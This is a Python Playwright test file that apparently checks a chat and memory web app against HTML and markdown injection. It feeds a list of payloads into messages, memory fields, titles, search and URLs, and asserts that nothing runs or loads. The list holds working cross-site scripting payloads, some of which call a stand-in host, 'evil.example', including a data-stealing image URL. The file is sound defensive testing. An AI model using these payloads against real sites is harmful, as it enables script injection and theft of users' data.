"""Attacks that the page must only show, for Chromium and Firefox."""

from page.actions import say
from page.browser import Watched
from playwright.async_api import Page, expect
from support.service import Service

ATTACKS = [
    "<script>alert(1); window.hit = 1</script>",
    "<img src=x onerror='alert(1); window.hit = 1'>",
    "<svg/onload=alert(1)><a href='javascript:alert(1)'>x</a>",
    "[click](javascript:window.hit=1) and [here](data:text/html,<script>alert(1)</script>)",
    "![tea](https://evil.example/steal?q=SECRET)",
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object>',
    "<style>@import url(https://evil.example/x.css); * { background: url(https://evil.example) }",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    '<form action="https://evil.example"><input name=q><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/x.css">',
    "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
    "<details open ontoggle=alert(1)>x</details>",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "<b id=app>x</b><a name=announcer href=https://evil.example ping=https://evil.example>y</a>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} \u202e&lt;script&gt;",
]


async def harmless(page: Page) -> None:
    """No element of the page loads, runs or sends anything from a text."""
    assert await page.evaluate("window.hit") is None
    forbidden = (
        "iframe, object, embed, img, video, audio, form[action], base, main link, main style"
    )
    assert await page.locator(forbidden).count() == 0
    scripts = await page.locator("script").evaluate_all("all => all.map(each => each.src)")
    assert all("/web/" in source for source in scripts)
    handlers = "[...document.querySelectorAll('main *')].flatMap(each => each.getAttributeNames())"
    assert [name for name in await page.evaluate(handlers) if name.startswith("on")] == []
    links = await page.locator("main a").evaluate_all("all => all.map(each => each.href)")
    assert all(link.startswith(("http", "mailto:")) for link in links)


async def an_answer_and_a_question_are_only_shown(service: Service, watched: Watched) -> None:
    page = await watched.open(service.url)
    for text in ATTACKS:
        await service.client.post("/v1/memories", json={"text": f"{text} kettle"})
        service.language.answer = text
        await say(page, f"{text} kettle")
        await expect(page.locator(".question .message-text").last).to_have_text(f"{text} kettle")
        await harmless(page)
    await page.locator(".reply-memories .text-button").last.click()
    await expect(page.locator(".side-panel .read-memories").first).to_be_attached()
    await harmless(page)


async def every_other_field_is_only_shown_too(service: Service, watched: Watched) -> None:
    for text in ATTACKS:
        body = {"text": f"{text} kettle", "speaker": text.replace("\n", " ")[:128]}
        body["speaker"] = "".join(each for each in body["speaker"] if each.isprintable())
        assert (await service.client.post("/v1/memories", json=body)).status_code == 201
        reply = await service.say(text)
        path = f"/v1/conversations/{reply['conversation_id']}"
        await service.client.patch(path, json={"title": text[:200]})
    page = await watched.open(f"{service.url}/#/memory")
    await expect(page.locator(".memory-row")).to_have_count(50)
    await harmless(page)
    search = page.get_by_role("search").get_by_role("searchbox")
    await search.fill(ATTACKS[1] + " kettle")
    await page.keyboard.press("Enter")
    await expect(page.locator(".results-head .strip")).to_be_visible()
    await harmless(page)
    await page.goto(f"{service.url}/#/memory?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
    await harmless(page)
    await page.goto(f"{service.url}/#/c/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
    await expect(page.locator(".welcome .error")).to_be_visible()
    await harmless(page)
